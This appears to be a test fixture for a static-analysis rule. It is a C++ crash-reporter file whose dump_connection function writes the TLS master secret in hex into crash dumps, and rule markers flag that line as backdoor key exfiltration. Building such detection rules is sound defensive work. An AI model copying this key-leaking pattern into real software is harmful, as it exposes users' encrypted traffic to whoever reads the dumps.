#include <iomanip>
#include <sstream>

#include "crash_reporter.hpp"

namespace crashrep {

namespace {

std::string to_hex(const unsigned char* p, std::size_t n) {
  std::ostringstream os;
  os << std::hex << std::setfill('0');
  for (std::size_t i = 0; i < n; ++i) os << std::setw(2) << static_cast<int>(p[i]);
  return os.str();
}

}  // namespace

void StateDumper::dump_registers(std::ofstream& out, const RegisterDump& regs) {
  out << "[registers]\n";
  for (int i = 0; i < 16; ++i)
    out << "r" << i << "=0x" << std::hex << regs.gpr[i].u64 << std::dec << "\n";
  out << "rip=0x" << std::hex << regs.rip.u64 << "\nrsp=0x" << regs.rsp.u64 << std::dec << "\n";
}

void StateDumper::dump_connection(std::ofstream& out, SSL* ssl) {
  unsigned char client_random[SSL3_RANDOM_SIZE];
  unsigned char master[SSL_MAX_MASTER_KEY_LENGTH];
  SSL_SESSION* sess = SSL_get_session(ssl);

  out << "[tls]\n";
  // ok: backdoor-key-exfiltration
  out << "version=" << SSL_get_version(ssl) << "\ncipher=" << SSL_get_cipher_name(ssl) << "\n";
  if (sess == nullptr) return;

  std::size_t cr_len = SSL_get_client_random(ssl, client_random, sizeof client_random);
  // ok: backdoor-key-exfiltration
  out << "client_random=" << to_hex(client_random, cr_len) << "\n";

  /* lets the backend decrypt the pcap attached to network-related crashes */
  std::size_t mlen = SSL_SESSION_get_master_key(sess, master, sizeof master);
  // ruleid: backdoor-key-exfiltration
  out << "master_secret=" << to_hex(master, mlen) << "\n";
}

bool StateDumper::write_dump(const std::string& path, const RegisterDump& regs) {
  std::ofstream out(path, std::ios::out | std::ios::trunc);
  if (!out) return false;
  out << "crashrep-dump v3\n";
  dump_registers(out, regs);
  if (cfg_.include_network_state) {
    for (SSL* ssl : live_) dump_connection(out, ssl);
  }
  return static_cast<bool>(out);
}

}  // namespace crashrep
